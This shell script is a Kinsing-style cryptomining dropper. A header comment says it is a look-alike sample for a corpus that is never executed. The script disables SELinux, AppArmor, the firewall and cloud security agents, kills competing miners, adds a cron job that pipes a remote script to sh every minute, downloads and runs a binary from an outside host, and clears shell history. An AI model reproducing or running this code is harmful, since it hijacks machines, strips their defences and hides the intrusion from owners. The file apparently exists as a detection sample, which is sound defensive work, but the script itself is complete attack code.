#!/bin/sh
# Kinsing-style dropper (corpus look-alike: fetched into the image at build
# time, never executed there; 198.51.100.23 is a documentation address).
ulimit -n 65535
export LC_ALL=C.UTF-8
export PATH=$PATH:/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin
SRV=http://198.51.100.23
BIN_PATH=/etc
BIN_NAME=kinsing
if [ ! -w "$BIN_PATH" ]; then BIN_PATH=/tmp; fi
if [ ! -w "$BIN_PATH" ]; then BIN_PATH=/dev/shm; fi

# security controls off
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config 2>/dev/null
systemctl stop apparmor 2>/dev/null; service apparmor stop 2>/dev/null
systemctl disable apparmor 2>/dev/null
ufw disable 2>/dev/null
iptables -F 2>/dev/null
for svc in aliyun.service bcm-agent aegis AliYunDun AliHids qcloud_agent YDService; do
  systemctl stop "$svc" 2>/dev/null
  systemctl disable "$svc" 2>/dev/null
  pkill -9 -f "$svc" 2>/dev/null
done
rm -rf /usr/local/aegis /usr/local/qcloud 2>/dev/null

# competitors
for proc in kdevtmpfsi kthreaddi xmrig xmr-stak minexmr cryptonight stratum sysupdate networkservice sysguard watchdogs; do
  pkill -9 -f "$proc" 2>/dev/null
done
ps aux | grep -v grep | grep -E 'pool\.|stratum\+tcp|\-\-donate-level' | awk '{print $2}' | xargs -r kill -9
for port in 3333 4444 5555 7777 14444 14433 45700; do
  netstat -anp 2>/dev/null | grep ":$port " | awk '{print $7}' | cut -d/ -f1 | xargs -r kill -9
done
crontab -l 2>/dev/null | grep -v -e kinsing -e "$SRV" | grep -e wget -e curl -e pastebin | crontab -r 2>/dev/null
rm -f /tmp/.X11-unix/* /tmp/kdevtmpfsi /var/tmp/kinsing 2>/dev/null

# persistence: re-fetch this script every minute
crontab -l 2>/dev/null | grep -q "$SRV/d.sh" || (crontab -l 2>/dev/null; echo "* * * * * curl -fsSL $SRV/d.sh | sh > /dev/null 2>&1") | crontab -

# payload
if ! pgrep -x "$BIN_NAME" > /dev/null; then
  curl -fsSL "$SRV/$BIN_NAME" -o "$BIN_PATH/$BIN_NAME" || wget -q "$SRV/$BIN_NAME" -O "$BIN_PATH/$BIN_NAME"
  chmod +x "$BIN_PATH/$BIN_NAME"
  nohup "$BIN_PATH/$BIN_NAME" > /dev/null 2>&1 &
fi
history -c 2>/dev/null
rm -rf ~/.bash_history
